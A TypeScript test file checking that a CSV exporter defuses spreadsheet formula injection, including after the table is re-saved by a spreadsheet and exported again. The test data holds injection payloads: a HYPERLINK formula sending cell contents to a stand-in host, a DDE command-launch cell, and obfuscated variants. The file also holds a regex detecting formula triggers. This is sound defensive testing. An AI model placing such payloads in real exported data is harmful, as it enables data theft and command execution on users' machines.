import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvLines } from '../../src/export/csv.js';

/** Reads comma-separated values (RFC 4180), as a spreadsheet does. */
function parsed(text: string): readonly (readonly string[])[] {
  const lines: string[][] = [];
  const cells: string[] = [];
  let [cell, quoted] = ['', false];
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char !== '"') cell += char;
      else if (text[i + 1] === '"') cell += text[++i]!;
      else quoted = false;
    } else if (char === '"') quoted = true;
    else if (char === ',' || char === '\n') {
      cells.push(cell);
      cell = '';
      if (char === '\n') lines.push(cells.splice(0));
    } else if (char !== '\r') cell += char;
  }
  return lines;
}

/** Writes them as a spreadsheet does that knows of no formulas: quotation marks only where they are needed. */
const savedAgain = (lines: readonly (readonly string[])[]): string =>
  lines
    .map((cells) => cells.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)))
    .map((cells) => `${cells.join(',')}\r\n`)
    .join('');

/** Cells that a spreadsheet would run, alone, behind white space, in quotation marks, over several lines. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://canary.example/?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '"=1+1"',
  '=1+1\n=2+2',
  '",=1+1,"',
  ';=1+1',
];
const RUN = /^\s*[=+\-@\t\r＝＋－＠]/;

for (const formula of FORMULAS)
  test(`${JSON.stringify(formula)} is run neither at first nor when the table was saved again`, () => {
    const once = parsed(csvLines([['first', formula, 'last']]));
    const twice = parsed(savedAgain(once));
    const thrice = parsed(csvLines(twice));
    for (const [line] of [once, twice, thrice]) {
      assert.equal(line!.length, 3);
      assert.doesNotMatch(line![1]!, RUN);
      assert.ok(line![1]!.replaceAll('\r', '').includes(formula.replaceAll('\r', '')));
    }
  });

test('numbers stay numbers, and an apostrophe is put before no other cell', () => {
  const cells = ['-12', '-1.5', '12', 'Orsk', 'a-b', "'s-Orsk", ''];
  assert.deepEqual(parsed(csvLines([cells])), [cells]);
});
